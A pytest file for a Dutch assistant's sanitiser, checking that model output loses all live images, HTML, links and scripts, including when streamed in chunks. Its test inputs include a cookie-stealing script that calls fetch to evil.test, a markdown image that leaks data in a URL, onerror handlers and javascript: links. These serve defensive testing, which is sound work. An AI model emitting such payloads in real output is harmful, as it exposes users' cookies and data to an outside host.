"""A language model's text is never live content: images, HTML and links become plain text.

Literal inputs and outputs for the pure function; then the property the stream relies on (any
cut of a reply into chunks shows nothing live), and the checked answer, export and audit hash."""

from __future__ import annotations

import random
import re

import pytest

from assistant.compose.llm.compose import finish
from assistant.compose.llm.sanitize import SanitisingStream, sanitize_model_text
from ingest.index.passage import Passage


@pytest.mark.parametrize("raw, shown", [
    ("De raad stelt kaders [1].", "De raad stelt kaders [1]."),
    ("Zie ![grafiek](http://evil.test/p.png?data=geheim) hier.",
     "Zie afbeelding „grafiek” (http\\://evil.test/p.png?data=geheim) hier."),
    ("![](https://evil.test/x.png)", "afbeelding (https\\://evil.test/x.png)"),
    ('Tekst <img src="http://evil.test/a.png" onerror="alert(1)"> verder.', "Tekst  verder."),
    ("Voor <script>fetch('http://evil.test/?'+document.cookie)</script>na.", "Voor na."),
    ('<iframe src="http://evil.test/"></iframe>Klaar.', "Klaar."),
    ("<!-- verborgen --><b>vet</b> en <i>schuin</i>", "vet en schuin"),
    ("[klik hier](javascript:alert(1))", "klik hier (javascript:alert(1))"),
    ("[rapport](https://evil.test/r.pdf \"titel\")", "rapport (https\\://evil.test/r.pdf)"),
    ("Zie <https://evil.test/a> of www.evil.test.", "Zie https\\://evil.test/a of www\\.evil.test."),
    ("Mail jan@evil.test of <jan@evil.test>.", "Mail jan\\@evil.test of jan\\@evil.test."),
    ("Bron [2](#bron-1-2) en [1, 3](http://evil.test).", "Bron [2] en [1, 3]."),
    ("[a][ref]\n\n[ref]: http://evil.test", "\\[a\\]\\[ref\\]\n\n\\[ref\\]: http\\://evil.test"),
    ("[1]: http://evil.test", "\\[1\\]: http\\://evil.test"),
    ("Een \\[1\\] van het model.", "Een \\\\\\[1\\\\\\] van het model."),
    ("a < b en c > d", "a &lt; b en c > d"),
    ("[![x](http://a.test/i.png)](http://b.test/)",
     "afbeelding „x” (http\\://a.test/i.png) (http\\://b.test/)"),
    ("<think>plan</think>Antwoord [1].", "Antwoord [1]."),
])
def test_model_text_is_made_inert(raw, shown):
    assert sanitize_model_text(raw) == shown


def live(markdown: str) -> list[str]:
    """What a Markdown viewer would make live: images, links, autolinks, HTML tags, definitions."""
    found = []
    unescaped = r"(?<!\\)(?:\\\\)*"
    found += re.findall(unescaped + r"!\[", markdown)
    found += re.findall(unescaped + r"\[[^\]]*\]\(", markdown)
    found += re.findall(unescaped + r"\[[^\]]*\]:", markdown)
    found += re.findall(r"<[a-zA-Z!/?]", markdown)
    found += re.findall(r"(?<![\\\w])(?:https?|ftp|mailto):", markdown)
    found += re.findall(r"(?<![\\\w])www\.", markdown)
    found += re.findall(r"[\w.+-](?<!\\)@[\w-]+\.", markdown)
    return found


HOSTILE = ("## Kort antwoord\nDe raad stelt kaders [1]. ![x](http://evil.test/p.png?d=1) "
           "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) <http://evil.test/a> "
           "www.evil.test jan@evil.test [1]: http://evil.test <script>alert(2)</script> "
           "[label met spaties](https://evil.test/lang pad) einde [2].\n")


def test_the_hostile_reply_has_nothing_live_left():
    assert live(HOSTILE)  # the detector sees what it should …
    assert live(sanitize_model_text(HOSTILE)) == []  # … and nothing survives


@pytest.mark.parametrize("seed", range(30))
def test_any_cut_of_a_stream_into_chunks_shows_nothing_live(seed):
    rng = random.Random(seed)
    cuts = sorted(rng.sample(range(1, len(HOSTILE)), rng.randint(1, 40)))
    chunks = [HOSTILE[a:b] for a, b in zip([0, *cuts], [*cuts, len(HOSTILE)], strict=True)]
    stream, shown = SanitisingStream(), ""
    for chunk in chunks:
        shown += stream.feed(chunk)
        assert live(shown) == [], f"live content after {len(shown)} characters: {shown!r}"
    shown += stream.flush()
    assert live(shown) == []
    assert "De raad stelt kaders [1]." in shown


def test_the_stream_holds_back_an_open_link_until_it_closes():
    stream = SanitisingStream()
    assert stream.feed("Zie [het ") == "Zie "
    assert stream.feed("rapport](https://e.test/r) ") == "het rapport (https\\://e.test/r) "
    assert stream.flush() == ""


PASSAGE = Passage(id="p1", doc_id="d", title="Werkende samenwerking", kind="rapport",
                  text="De raad stelt kaders voor de regionale samenwerking en volgt de resultaten.",
                  page=1, section="", block="tekst", steps=[1], steps_inferred=False, wegwijzer=None,
                  speaker=None, places=[], research_pages=[], position=0)


def test_the_checked_answer_export_and_audit_hash_see_only_the_inert_text(tmp_path, monkeypatch):
    import json

    from assistant import audit
    from assistant.compose.answer import Answer, Citation
    from assistant.present.markdown import to_markdown

    reply = ("De raad stelt kaders voor de regionale samenwerking [1]. "
             "![x](http://evil.test/p.png?data=geheim) <img src=http://evil.test/b.png>")
    generated = finish(reply, [(1, PASSAGE)])
    assert "[1]" in generated.text and "evil.test" in generated.text
    assert live(generated.text) == [] and "<img" not in generated.text
    answer = Answer(question="Wat doet de raad?", mode="vraag", backend="openai", abstained=False,
                    notice=None, summary=[], steps=[], silent_steps=[], examples=[],
                    citations=[Citation(1, PASSAGE, 1.0)], prose=generated.text)
    markdown = to_markdown(answer)
    assert "![" not in markdown and "<img" not in markdown and "http\\://evil.test" in markdown
    answer.meta["markdown"] = markdown
    log = tmp_path / "audit.jsonl"
    monkeypatch.setenv("REGIOWIJZER_AUDIT_LOG", str(log))
    audit.record(answer)
    import hashlib

    record = json.loads(log.read_text(encoding="utf-8"))
    assert record["answer_sha256"] == hashlib.sha256(markdown.encode()).hexdigest()
